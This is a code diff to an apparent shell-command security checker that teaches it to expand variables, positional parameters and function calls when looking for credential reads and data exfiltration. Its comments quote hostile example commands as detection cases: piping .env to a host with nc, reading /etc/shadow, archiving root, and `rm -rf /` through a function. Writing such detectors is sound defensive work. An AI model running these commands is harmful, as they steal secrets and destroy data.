@@ -40,6 +40,7 @@ import {
 } from './shell.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
+import { positionalSets, withLiterals } from './shell-literals.js';
 import { HOME_SENT_MARK, listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
 import { parseShell, type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
 import { type CommandParse, parseCommands, plainParse, shellFastPath } from './shell-plain.js';
@@ -423,7 +424,9 @@ function credentialGlobs(
     });
     let redirects = c.redirects;
     for (const [k, r] of c.redirects.entries()) {
-      const cred = credentialWord(r.target, vars);
+      // `nc h 80 < "$(ls .e*)"`: a target is what its substitution lists, as an operand's is (round 26).
+      const listed = r.shown === undefined ? undefined : substitutedCredential(r.shown, vars, all);
+      const cred = credentialWord(r.target, vars) ?? (listed === undefined ? undefined : r.target + listed);
       if (cred === undefined) continue;
       if (redirects === c.redirects) redirects = [...c.redirects];
       (redirects as Redirect[])[k] = { op: r.op, target: cred };
@@ -596,6 +599,15 @@ function readList(
   // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
   const globbed = credentialGlobs(cmds, st.vars, all);
   if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
+  // `D=/etc; cat $D/shadow`, `D=/; cd $D; tar c root`: the list with the text's literal variables spelled
+  // as their values, read again whole (round 26, shell-literals.ts).
+  const literal = withLiterals(cmds, st.vars);
+  if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
+  // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
+  for (const given of positionalSets(all)) {
+    const called = withLiterals(cmds, st.vars.size === 0 ? given : new Map([...st.vars, ...given]));
+    if (called !== undefined) scripts.push(listLine(called, starts, 0, false, NO_VARS));
+  }
   for (let i = 0; i < cmds.length; i++) {
     // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
     // the programs' own readers (home-sent, credential-sent, ...) read it as analyse does (round 24).
